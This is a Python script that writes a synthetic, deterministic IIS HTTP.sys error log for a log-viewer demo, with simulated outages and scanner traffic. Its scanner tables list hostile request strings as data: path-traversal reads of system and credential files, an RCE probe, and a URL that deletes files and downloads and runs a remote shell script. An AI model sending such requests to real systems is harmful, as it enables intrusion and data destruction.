#!/usr/bin/env python3
"""Generate the HttpErr Viewer demo log ``httperr-demo.log``.

The output is a synthetic but realistic HTTP.sys error log covering one UTC
day (2026-03-10 00:00:00 to 23:59:59) of a busy IIS server, in the 14-field
layout of Windows Server 2016 and later:

    date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid
    sc-status s-siteid s-reason s-queuename

Lines are CRLF-terminated, as HTTP.sys writes them, and in time order. The
day contains:

* background noise: Timer_ConnectionIdle (the bulk, following a daily
  traffic curve), Timer_MinBytesPerSecond, Timer_EntityBody,
  Timer_HeaderWait, Client_Reset and a few Connection_Dropped per hour;
* internet scanners (mostly 198.51.100.23 around 02:47 and 203.0.113.77 all
  day with a burst around 16:20) producing URL, Forbidden, NotFound,
  BadRequest, Verb, Hostname and Timer_HeaderWait entries;
* two Connection_Dropped bursts (about 10:14 and 15:37) caused by a slow
  back end with the load balancer giving up;
* a ShopAppPool failure around 12:50 (QueueFull, worker crashes with
  Connection_Abandoned_By_ReqQueue, rapid-fail protection -> AppOffline),
  ended by an HTTP service restart at 13:06:40 which starts a new header
  block.

All addresses are from the documentation ranges (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) or private 10.x ranges.

The script uses only the Python standard library, a fixed random seed and
integer arithmetic for all weighting, and it does not look at the current
date, time zone or locale, so every run writes a byte-identical file.

Run it from the repository root:

    python3 resources/demo/generate_demo.py

It writes ``httperr-demo.log`` next to this script (an output path may be
given as the only argument).
"""

import bisect
import os
import random
import sys

SEED = 20260310
DAY = "2026-03-10"
OUT_NAME = "httperr-demo.log"

FIELDS = ("date time c-ip c-port s-ip s-port cs-version cs-method cs-uri "
          "streamid sc-status s-siteid s-reason s-queuename")

SERVER_IP4 = "10.0.0.5"
SERVER_IP6 = "2001:db8:0:10::5%0"
LOOPBACK6 = "::1%0"

DAY_SECONDS = 24 * 3600


def hms(h, m, s=0):
    return h * 3600 + m * 60 + s


# HTTP service restart: stopped at STOP, first connections accepted at START.
SERVICE_STOP = hms(13, 6, 41)
SERVICE_START = hms(13, 7, 9)

# Relative traffic per hour of the day (UTC), value at hh:30.
HOURLY_WEIGHT = (14, 10, 8, 7, 8, 12, 22, 42, 70, 92, 100, 90,
                 76, 80, 92, 96, 84, 64, 50, 44, 40, 34, 26, 18)


def minute_weights():
    """Integer weight per minute, linearly interpolated between hh:30 points."""
    weights = []
    for minute in range(24 * 60):
        pos = minute - 30  # minutes after the previous hh:30 point
        h0 = (pos // 60) % 24
        h1 = (h0 + 1) % 24
        k = pos % 60
        weights.append(HOURLY_WEIGHT[h0] * (60 - k) + HOURLY_WEIGHT[h1] * k)
    return weights


MINUTE_WEIGHTS = minute_weights()


class Gen:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.events = []  # (second, tiebreak, fields)
        cum = 0
        self.curve_cum = []
        for w in MINUTE_WEIGHTS:
            cum += w
            self.curve_cum.append(cum)
        self.lb_ports = {}
        self._build_clients()

    # -- random helpers (integer based, stable across Python versions) -----
    def pick(self, seq):
        return seq[self.rng.randrange(len(seq))]

    def wpick(self, items):
        """items: list of (weight:int, value)."""
        total = sum(w for w, _ in items)
        r = self.rng.randrange(total)
        for w, v in items:
            if r < w:
                return v
            r -= w
        raise AssertionError

    def pct(self, p):
        return self.rng.randrange(100) < p

    def curve_time(self, lo=0, hi=DAY_SECONDS):
        """A second of the day following the traffic curve, within [lo, hi)."""
        while True:
            r = self.rng.randrange(self.curve_cum[-1])
            minute = bisect.bisect_right(self.curve_cum, r)
            t = minute * 60 + self.rng.randrange(60)
            if lo <= t < hi:
                return t

    def eph_port(self):
        return self.rng.randrange(49152, 65536)

    # -- clients ------------------------------------------------------------
    def _build_clients(self):
        rng = self.rng
        reserved = {"198.51.100.23", "203.0.113.77"}
        public = []
        for prefix in ("192.0.2.", "198.51.100.", "203.0.113."):
            for host in range(1, 255):
                ip = prefix + str(host)
                if ip not in reserved:
                    public.append(ip)
        rng.shuffle(public)
        # Popularity: a few heavy clients (corporate proxies, carrier NAT),
        # a long tail of light ones.
        self.public = []
        for i, ip in enumerate(public):
            if i < 12:
                w = 40
            elif i < 60:
                w = 12
            elif i < 250:
                w = 4
            else:
                w = 1
            self.public.append((w, ip))
        self.office = ["10.1.%d.%d" % (rng.randrange(0, 8), rng.randrange(10, 250))
                       for _ in range(60)]
        self.lb = ["10.20.0.11", "10.20.0.12", "10.20.0.13", "10.20.0.14"]
        self.ipv6 = [
            "2001:db8:85a3::8a2e:370:7334%0",
            "2001:db8:4f1c:12::1a%0",
            "2001:db8:c0de:7:5c1e:99ff:fe12:3b41%0",
            "2001:db8:1200:ff::23%0",
            "2001:db8:aa:1:2d9:d1ff:fe40:9c02%0",
            "2001:db8:77:100::8%0",
            "2001:db8:3:4:e1b4:2:77:91%0",
            "2001:db8:beef:2::145%0",
        ]

    def client(self, kind=None):
        """Return (c_ip, s_ip, is_lb)."""
        if kind is None:
            kind = self.wpick([(30, "lb"), (8, "office"), (60, "public"), (2, "ipv6")])
        if kind == "lb":
            return self.pick(self.lb), SERVER_IP4, True
        if kind == "office":
            return self.pick(self.office), SERVER_IP4, False
        if kind == "ipv6":
            return self.pick(self.ipv6), SERVER_IP6, False
        return self.wpick(self.public), SERVER_IP4, False

    def lb_port(self, ip):
        """Load balancer nodes allocate source ports round-robin."""
        p = self.lb_ports.get(ip)
        if p is None:
            p = self.eph_port()
        p += self.rng.randrange(1, 40)
        if p > 65535:
            p = 49152 + (p - 65536)
        self.lb_ports[ip] = p
        return p

    def port_for(self, ip, is_lb):
        return self.lb_port(ip) if is_lb else self.eph_port()

    # -- output ------------------------------------------------------------
    def add(self, t, c_ip, c_port, s_ip, s_port, version="-", method="-",
            uri="-", stream="-", status="-", site="-", reason="", queue="-"):
        assert 0 <= t < DAY_SECONDS
        fields = (c_ip, str(c_port), s_ip, str(s_port), version, method, uri,
                  stream, str(status), str(site), reason, queue)
        for f in fields:
            assert f and " " not in f, fields
        self.events.append((t, self.rng.random(), fields))

    def version_for(self, s_port, is_lb, h2_pct=30):
        """(cs-version, streamid) for a request on this connection."""
        if s_port == 443 and not is_lb and self.pct(h2_pct):
            return "HTTP/2.0", str(2 * self.rng.randrange(0, 200) + 1)
        return "HTTP/1.1", "-"


# ---------------------------------------------------------------------------
# URL catalogues

SITE1 = (1, "DefaultAppPool")
SITE2 = (2, "ShopAppPool")

PRODUCT_CATS = ("garden", "kitchen", "tools", "lighting", "outdoor", "bath", "storage")
SEARCH_TERMS = ("red+shoes", "led+lamp", "garden+hose", "drill", "usb-c+cable",
                "standing+desk", "coffee+grinder", "rain+jacket")


def order_id(g):
    return "SO-%07d" % g.rng.randrange(1000000, 9999999)


def random_request(g):
    """A normal application request: (site, method, uri)."""
    c = g.rng.randrange(100)
    if c < 14:
        return SITE1, "GET", "/"
    if c < 24:
        return SITE1, "GET", "/api/products?category=%s&page=%d" % (
            g.pick(PRODUCT_CATS), g.rng.randrange(1, 9))
    if c < 32:
        return SITE1, "GET", "/search?q=" + g.pick(SEARCH_TERMS)
    if c < 38:
        return SITE1, "POST", "/api/orders/submit"
    if c < 44:
        return SITE1, "GET", "/api/orders/%s/status" % order_id(g)
    if c < 49:
        return SITE1, "POST", "/account/login"
    if c < 54:
        return SITE1, "GET", "/account/orders"
    if c < 58:
        return SITE1, "GET", "/images/products/%d.jpg" % g.rng.randrange(10000, 99999)
    if c < 66:
        return SITE2, "GET", "/cart"
    if c < 73:
        return SITE2, "GET", "/api/cart/items"
    if c < 79:
        return SITE2, "POST", "/cart/add"
    if c < 85:
        return SITE2, "GET", "/checkout/payment"
    if c < 91:
        return SITE2, "POST", "/checkout/confirm"
    if c < 95:
        return SITE2, "POST", "/api/payment/authorize"
    return SITE2, "GET", "/shop/product/%d" % g.rng.randrange(1000, 9999)


DOWNLOADS = ("/downloads/catalog-2026-spring.pdf", "/downloads/setup-x64.msi",
             "/downloads/manuals/dw-480-manual.pdf", "/media/video/product-tour-1080p.mp4",
             "/downloads/price-list-2026.xlsx", "/media/video/assembly-guide.mp4")
UPLOADS = ("/api/upload/attachment", "/account/avatar", "/api/returns/photos",
           "/api/import/products", "/support/ticket/attachments")


# ---------------------------------------------------------------------------
# Background event families


def gen_connection_idle(g, target):
    """Keep-alive connections expiring after 120 s idle, clustered per client."""
    n = 0
    while n < target:
        t0 = g.curve_time()
        ip, s_ip, is_lb = g.client()
        s_port = 443 if g.pct(82) else 80
        conns = g.wpick([(40, 1), (25, 2), (12, 3), (8, 4), (6, 5), (9, 6)])
        if is_lb:
            conns = g.wpick([(50, 1), (30, 2), (20, 3)])
        base = g.port_for(ip, is_lb)
        for i in range(conns):
            t = t0 + g.rng.randrange(0, 3)
            if t >= DAY_SECONDS:
                continue
            port = base + i * g.rng.randrange(1, 4)
            if port > 65535:
                port -= 16384
            g.add(t, ip, port, s_ip, s_port, reason="Timer_ConnectionIdle")
            n += 1
    # Local monitoring agent on the box itself (HTTP over ::1).
    t = hms(0, 3, 17)
    while t < DAY_SECONDS:
        g.add(t, LOOPBACK6, g.eph_port(), LOOPBACK6, 80, reason="Timer_ConnectionIdle")
        t += 1800 + g.rng.randrange(0, 40)


def gen_min_bytes(g, count):
    for _ in range(count):
        t = g.curve_time()
        ip, s_ip, is_lb = g.client(g.wpick([(70, "public"), (5, "ipv6"), (25, "lb")]))
        s_port = 443 if g.pct(85) else 80
        if g.pct(60):
            ver, stream = g.version_for(s_port, is_lb)
            site, queue = SITE1
            g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port, ver, "GET", g.pick(DOWNLOADS),
                  stream, "-", site, "Timer_MinBytesPerSecond", queue)
        else:
            g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port,
                  reason="Timer_MinBytesPerSecond")


def gen_entity_body(g, count):
    for _ in range(count):
        t = g.curve_time()
        ip, s_ip, is_lb = g.client(g.wpick([(75, "public"), (15, "office"), (10, "lb")]))
        s_port = 443
        ver, stream = g.version_for(s_port, is_lb, 20)
        site, queue = SITE2 if g.pct(20) else SITE1
        g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port, ver, "POST", g.pick(UPLOADS),
              stream, "-", site, "Timer_EntityBody", queue)


def gen_header_wait(g, count):
    for _ in range(count):
        t = g.curve_time()
        ip, s_ip, is_lb = g.client(g.wpick([(85, "public"), (5, "ipv6"), (10, "lb")]))
        s_port = 443 if g.pct(70) else 80
        g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port, reason="Timer_HeaderWait")


def add_client_reset(g, t, kind=None):
    ip, s_ip, is_lb = g.client(kind)
    s_port = 443 if g.pct(85) else 80
    if g.pct(45):
        (site, queue), method, uri = random_request(g)
        ver, stream = g.version_for(s_port, is_lb)
        g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port, ver, method, uri, stream,
              "-", site, "Client_Reset", queue)
    else:
        g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port, reason="Client_Reset")


def gen_client_reset(g, count):
    for _ in range(count):
        add_client_reset(g, g.curve_time())


def add_dropped(g, t, request, kind=None):
    (site, queue), method, uri = request
    ip, s_ip, is_lb = g.client(kind)
    s_port = 443 if g.pct(90) else 80
    ver, stream = g.version_for(s_port, is_lb, 25)
    g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port, ver, method, uri, stream,
          "-", site, "Connection_Dropped", queue)


def gen_dropped_background(g):
    """A few Connection_Dropped per hour: slow responses, impatient clients."""
    for hour in range(24):
        n = 1 + HOURLY_WEIGHT[hour] // 25 + g.rng.randrange(0, 3)
        for _ in range(n):
            t = g.curve_time(hour * 3600, hour * 3600 + 3600)
            add_dropped(g, t, random_request(g))


# ---------------------------------------------------------------------------
# Incidents


def burst_times(g, start, seconds, count):
    """count timestamps in [start, start+seconds), triangular density."""
    weights = []
    for s in range(seconds):
        weights.append(min(s + 1, seconds - s) + seconds // 6)
    cum = []
    acc = 0
    for w in weights:
        acc += w
        cum.append(acc)
    out = []
    for _ in range(count):
        r = g.rng.randrange(acc)
        out.append(start + bisect.bisect_right(cum, r))
    return out


def gen_dropped_burst_morning(g):
    """10:14 - payment/order back end stalls; the load balancer gives up."""
    reqs = [
        (36, lambda: (SITE1, "POST", "/api/orders/submit")),
        (24, lambda: (SITE2, "POST", "/checkout/confirm")),
        (12, lambda: (SITE2, "POST", "/api/payment/authorize")),
        (10, lambda: (SITE1, "GET", "/api/orders/%s/status" % order_id(g))),
        (10, lambda: (SITE2, "GET", "/api/cart/items")),
        (8, lambda: (SITE2, "GET", "/checkout/payment")),
    ]
    for t in burst_times(g, hms(10, 14, 3), 88, 412):
        kind = g.wpick([(70, "lb"), (27, "public"), (3, "ipv6")])
        add_dropped(g, t, g.wpick(reqs)(), kind)
    # Impatient clients also reset while the back end is slow.
    for _ in range(38):
        add_client_reset(g, hms(10, 13, 50) + g.rng.randrange(0, 120), "public")


def gen_dropped_burst_afternoon(g):
    """15:37 - report export saturates the database; smaller burst."""
    reqs = [
        (40, lambda: (SITE1, "POST", "/api/orders/submit")),
        (25, lambda: (SITE1, "GET", "/api/reports/export?from=2026-03-01&to=2026-03-09&format=csv")),
        (20, lambda: (SITE1, "GET", "/search?q=" + g.pick(SEARCH_TERMS))),
        (15, lambda: (SITE1, "GET", "/account/orders")),
    ]
    for t in burst_times(g, hms(15, 37, 41), 66, 254):
        kind = g.wpick([(65, "lb"), (30, "public"), (5, "office")])
        add_dropped(g, t, g.wpick(reqs)(), kind)


def shop_request(g):
    c = g.rng.randrange(100)
    if c < 30:
        return "GET", "/cart"
    if c < 50:
        return "GET", "/api/cart/items"
    if c < 65:
        return "POST", "/cart/add"
    if c < 78:
        return "GET", "/checkout/payment"
    if c < 90:
        return "POST", "/checkout/confirm"
    return "GET", "/shop/product/%d" % g.rng.randrange(1000, 9999)


def add_shop_line(g, t, status, reason, kind=None):
    ip, s_ip, is_lb = g.client(kind)
    s_port = 443 if g.pct(92) else 80
    ver, stream = g.version_for(s_port, is_lb)
    method, uri = shop_request(g)
    site, queue = SITE2
    g.add(t, ip, g.port_for(ip, is_lb), s_ip, s_port, ver, method, uri, stream,
          status, site, reason, queue)


def gen_app_pool_incident(g):
    """ShopAppPool hangs, its queue fills, w3wp crashes 5 times, rapid-fail
    protection stops the pool (AppOffline), then the admin restarts HTTP."""
    # QueueFull: 12:49:30 - 12:53:50, rising.
    for t in burst_times(g, hms(12, 49, 30), 260, 446):
        add_shop_line(g, t, 503, "QueueFull")
    # Worker process crashes orphan the queued requests.
    crashes = [(hms(12, 53, 51), 47), (hms(12, 54, 39), 18), (hms(12, 55, 22), 14),
               (hms(12, 56, 5), 12), (hms(12, 56, 48), 11)]
    for t0, n in crashes:
        for _ in range(n):
            add_shop_line(g, t0 + (1 if g.pct(20) else 0), "-",
                          "Connection_Abandoned_By_ReqQueue")
    # Rapid-fail protection: pool stopped, HTTP.sys answers 503 AppOffline.
    start, end = hms(12, 56, 49), hms(13, 6, 31)
    for _ in range(318):
        add_shop_line(g, start + g.rng.randrange(end - start), 503, "AppOffline")
    # "net stop http" at 13:06:40: requests still queued to DefaultAppPool
    # are abandoned when the queue is torn down.
    for _ in range(13):
        while True:
            (site, queue), method, uri = random_request(g)
            if site == SITE1[0]:
                break
        ip, s_ip, is_lb = g.client()
        ver, stream = g.version_for(443, is_lb)
        g.add(SERVICE_STOP - 1, ip, g.port_for(ip, is_lb), s_ip, 443, ver,
              method, uri, stream, "-", site, "Connection_Abandoned_By_ReqQueue", queue)


# ---------------------------------------------------------------------------
# Scanners

URL_ATTACKS = (
    ("GET", "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir"),
    ("GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"),
    ("GET", "/msadc/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir+c:\\"),
    ("GET", "/%%35%63..%%35%63..%%35%63windows/win.ini"),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    ("GET", "/..%5c..%5c..%5c..%5cwindows%5cwin.ini"),
    ("GET", "/%u002e%u002e/%u002e%u002e/boot.ini"),
    ("GET", "/index.php?file=%00../../../../etc/passwd"),
    ("GET", "/static/%2e%2e/%2e%2e/%2e%2e/web.config"),
    ("POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"),
    ("GET", "/fee&fie=foe%"),
    ("GET", "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow"),
)

FORBIDDEN_ATTACKS = (
    ("GET", "/..\\..\\..\\..\\..\\windows\\win.ini"),
    ("GET", "/nessus\\..\\..\\..\\..\\winnt\\win.ini"),
    ("GET", "/scripts\\..\\..\\..\\boot.ini"),
    ("GET", "/aspnet_client\\..\\..\\web.config"),
    ("M-POST", "/CIMListener/\\..\\..\\..\\..\\mydll"),
    ("GET", "/images\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("GET", "/\\..\\..\\..\\..\\..\\..\\..\\etc\\passwd"),
)

NOTFOUND_PROBES = (
    ("GET", "/.env"),
    ("GET", "/.git/config"),
    ("GET", "/wp-login.php"),
    ("POST", "/xmlrpc.php"),
    ("GET", "/phpmyadmin/index.php"),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country"),
    ("GET", "/actuator/env"),
    ("GET", "/owa/auth/logon.aspx?replaceCurrent=1&url=https://mail/owa/"),
    ("GET", "/autodiscover/autodiscover.json?@zdi/Powershell"),
    ("GET", "/solr/admin/info/system?wt=json"),
    ("GET", "/.aws/credentials"),
    ("GET", "/server-status"),
    ("OPTIONS", "*"),
    ("GET", "/manager/html"),
    ("POST", "/boaform/admin/formLogin"),
    ("GET", "/HNAP1/"),
    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("PROPFIND", "/"),
    ("GET", "/api/v1/pods"),
    ("GET", "/config.json"),
    ("GET", "/backup.zip"),
    ("GET", "/web.config.bak"),
    ("GET", "/console/login/LoginForm.jsp"),
    ("POST", "/api/jsonws/invoke"),
    ("GET", "/telescope/requests"),
    ("GET", "/_ignition/execute-solution"),
)

BADREQUEST_PROBES = (
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP"),
    ("GET", "/<script>alert(document.domain)</script>"),
    ("GET", "/?q={{7*7}}"),
    ("GET", "/"),
    ("POST", "/"),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.250/bins.sh;sh+bins.sh"),
    ("HEAD", "/"),
)

HOSTNAME_PROBES = (
    ("GET", "/"),
    ("GET", "/admin"),
    ("GET", "/login"),
    ("HEAD", "/"),
    ("GET", "/robots.txt"),
)


class Scanner:
    def __init__(self, g, ip):
        self.g = g
        self.ip = ip
        self.port = g.eph_port()

    def next_port(self):
        self.port += self.g.rng.randrange(1, 4)
        if self.port > 65535:
            self.port = 49152 + (self.port - 65536)
        return self.port

    def probe(self, t, kind=None):
        g = self.g
        if kind is None:
            kind = g.wpick([(24, "url"), (14, "forbidden"), (36, "notfound"),
                            (11, "badrequest"), (9, "verb"), (6, "hostname")])
        s_port = 443 if g.pct(60) else 80
        ver = "HTTP/1.0" if g.pct(15) else "HTTP/1.1"
        port = self.next_port()
        if kind == "url":
            m, u = g.pick(URL_ATTACKS)
            g.add(t, self.ip, port, SERVER_IP4, s_port, ver, m, u, "-", 400, "-", "URL")
        elif kind == "forbidden":
            m, u = g.pick(FORBIDDEN_ATTACKS)
            g.add(t, self.ip, port, SERVER_IP4, s_port, ver, m, u, "-", 403, "-", "Forbidden")
        elif kind == "notfound":
            m, u = g.pick(NOTFOUND_PROBES)
            g.add(t, self.ip, port, SERVER_IP4, s_port, ver, m, u, "-", 404, "-", "NotFound")
        elif kind == "badrequest":
            if g.pct(30):
                g.add(t, self.ip, port, SERVER_IP4, s_port, status=400, reason="BadRequest")
            else:
                m, u = g.pick(BADREQUEST_PROBES)
                g.add(t, self.ip, port, SERVER_IP4, s_port, ver, m, u, "-", 400, "-",
                      "BadRequest")
        elif kind == "verb":
            # TLS ClientHello on port 80 or binary junk: nothing parsed.
            g.add(t, self.ip, port, SERVER_IP4, s_port, status=400, reason="Verb")
        elif kind == "hostname":
            m, u = g.pick(HOSTNAME_PROBES)
            g.add(t, self.ip, port, SERVER_IP4, s_port, ver, m, u, "-", 400, "-", "Hostname")
        elif kind == "headerwait":
            g.add(t, self.ip, port, SERVER_IP4, s_port, reason="Timer_HeaderWait")


def gen_scanners(g):
    # Scanner A: fast vulnerability scan 02:47:10 - ~03:09.
    a = Scanner(g, "198.51.100.23")
    t = hms(2, 47, 10)
    for _ in range(760):
        a.probe(t)
        if g.pct(55):
            t += 1 + g.rng.randrange(0, 3)
    # Scanner B: slow all-day crawl plus a burst and a slowloris test at 16:2x.
    b = Scanner(g, "203.0.113.77")
    t = hms(0, 12, 5)
    while t < DAY_SECONDS:
        b.probe(t)
        t += 120 + g.rng.randrange(0, 300)
    t = hms(16, 20, 12)
    for _ in range(230):
        b.probe(t)
        if g.pct(45):
            t += 1 + g.rng.randrange(0, 4)
    # Slowloris: connections opened together at 16:31:02 never finish their
    # headers; HTTP.sys logs them when the 120 s header-wait limit expires.
    for _ in range(72):
        b.probe(hms(16, 33, 2) + (1 if g.pct(30) else 0), "headerwait")
    # Internet background noise from random addresses.
    for _ in range(24 * 9):
        t = g.rng.randrange(DAY_SECONDS)
        ip = g.wpick(g.public)
        s = Scanner(g, ip)
        s.probe(t, g.wpick([(40, "notfound"), (30, "verb"), (15, "badrequest"),
                            (8, "url"), (7, "hostname")]))


# ---------------------------------------------------------------------------


def format_time(t):
    return "%02d:%02d:%02d" % (t // 3600, t // 60 % 60, t % 60)


def header(t):
    return ["#Software: Microsoft HTTP API 2.0",
            "#Version: 1.0",
            "#Date: %s %s" % (DAY, format_time(t)),
            "#Fields: " + FIELDS]


def build():
    g = Gen(SEED)
    gen_connection_idle(g, 25000)
    gen_min_bytes(g, 690)
    gen_entity_body(g, 230)
    gen_header_wait(g, 270)
    gen_client_reset(g, 620)
    gen_dropped_background(g)
    gen_dropped_burst_morning(g)
    gen_dropped_burst_afternoon(g)
    gen_app_pool_incident(g)
    gen_scanners(g)

    events = []
    for t, tie, fields in g.events:
        if SERVICE_STOP <= t < SERVICE_START:
            continue  # HTTP service not running
        if (fields[10] == "Timer_ConnectionIdle"
                and SERVICE_START <= t < SERVICE_START + 120):
            continue  # every connection was reset by the restart
        events.append((t, tie, fields))
    events.sort(key=lambda e: (e[0], e[1]))

    lines = []
    restarted = False
    for i, (t, _, fields) in enumerate(events):
        if i == 0:
            lines.extend(header(t))
        elif not restarted and t >= SERVICE_START:
            lines.extend(header(t))
            restarted = True
        lines.append("%s %s %s" % (DAY, format_time(t), " ".join(fields)))
    return lines


def main(argv):
    if len(argv) > 1:
        out = argv[1]
    else:
        out = os.path.join(os.path.dirname(os.path.abspath(__file__)), OUT_NAME)
    data = ("\r\n".join(build()) + "\r\n").encode("ascii")
    with open(out, "wb") as f:
        f.write(data)
    print("wrote %s (%d bytes)" % (out, len(data)))


if __name__ == "__main__":
    main(sys.argv)
